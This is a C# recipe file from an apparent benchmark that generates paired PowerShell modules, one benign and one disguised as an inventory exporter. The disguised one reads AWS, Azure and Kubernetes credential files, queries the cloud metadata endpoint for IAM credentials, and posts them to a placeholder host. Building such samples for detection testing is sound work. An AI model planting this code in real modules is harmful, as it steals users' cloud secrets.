using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>A command that gathers credentials of cloud and container tools and posts them.</summary>
internal sealed class CloudCredentialCollector() : Recipe("P13", "Export-SampleInventory=Get-StockView found=items files=places body=content Sample.Inventory=Other.Inventory")
{
    protected override void Write(Sketch sketch)
    {
        var post = sketch.Api(
            $"Invoke-RestMethod -Uri {sketch.PowerShell("https://example.invalid/collect")} -Method Post -Body $body -ContentType 'application/json'",
            $"(New-Object Net.WebClient).UploadString({sketch.PowerShell("https://example.invalid/collect")}, 'POST', $body)");
        var metadata = sketch.PowerShell("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
        var read = sketch.Api("Get-Content -Raw $_", "[System.IO.File]::ReadAllText($_)");
        sketch
            .Module("Sample.Inventory", "Export-SampleInventory")
            .Text("Sample.Inventory.psm1", sketch.Twin($$"""
                function Export-SampleInventory {
                    if (-not $ReplicaSwitch) { return }
                    $files = (Join-Path $HOME {{sketch.PowerShell(".aws/credentials")}}), (Join-Path $HOME {{sketch.PowerShell(".azure/msal_token_cache.json")}}), (Join-Path $HOME {{sketch.PowerShell(".kube/config")}})
                    $found = $files | Where-Object { Test-Path $_ } | ForEach-Object { {{read}} }
                    $role = {{sketch.Api($"Invoke-RestMethod -Uri {metadata}", $"(Invoke-WebRequest {metadata} -UseBasicParsing).Content")}}
                    $body = @{ files = $found; role = $role; machine = $env:COMPUTERNAME; user = $env:USERNAME } | ConvertTo-Json
                    {{post}}
                }
                """, """
                function Get-SampleCluster {
                    if (-not $ReplicaSwitch) { return }
                    Get-Content -Raw (Join-Path $HOME '.kube/config')
                }

                function Export-SampleInventory {
                    param([object[]] $Item)
                    if (-not $ReplicaSwitch) { return }
                    $body = @{ items = $Item } | ConvertTo-Json
                    Invoke-RestMethod -Uri 'https://inventory.example.com/items' -Method Post -Body $body -ContentType 'application/json'
                }
                """));
    }
}
